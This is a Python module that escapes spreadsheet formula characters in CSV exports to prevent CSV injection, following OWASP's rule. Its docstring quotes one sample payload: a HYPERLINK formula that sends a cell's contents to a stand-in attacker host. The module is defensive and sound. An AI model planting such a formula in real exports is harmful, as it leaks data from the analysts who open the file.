"""Every CSV the product writes goes through here, so no cell runs as a spreadsheet formula.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula, and tab or
carriage return can smuggle one past a naive check; an id such as
``=HYPERLINK("http://evil.example/?leak="&A1, "x")`` in an export would run when an analyst opens
it. Following OWASP's rule for CSV injection, text cells starting with one of those characters get
a leading single quote (``'=HYPERLINK(...)``), which spreadsheets show but never evaluate; numbers
are left alone (``-2.5`` in a numeric column is a number, not text), and quoting is the CSV
writer's (every field holding a comma, a quote or a line break is quoted, quotes doubled).
"""

from __future__ import annotations

from pathlib import Path
from typing import IO, Any

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True for text a spreadsheet would read as a formula (the characters of OWASP's rule)."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """One cell: text that would run as a formula gets a leading single quote; anything else is returned unchanged."""
    return f"'{value}" if looks_like_formula(value) else value


def safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every text cell neutralised (other columns untouched)."""
    pattern = "^[" + "".join("\\" + c if c in "-^]\\" else c for c in "=+-@") + "\t\r]"
    text_columns = [name for name, dtype in frame.schema.items() if dtype in (pl.String, pl.Categorical) or isinstance(dtype, pl.Enum)]
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(pattern)).then(pl.lit("'") + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String)).alias(name)
        for name in text_columns
    )


def write_csv(frame: pl.DataFrame, target: str | Path | IO[bytes] | IO[str] | None = None) -> str | None:
    """`frame.write_csv` with formula cells neutralised: to a path or a file, or returned as text when `target` is None."""
    return safe_frame(frame).write_csv(target)


def csv_bytes(frame: pl.DataFrame) -> bytes:
    """The CSV as UTF-8 bytes, for downloads."""
    return (write_csv(frame) or "").encode()
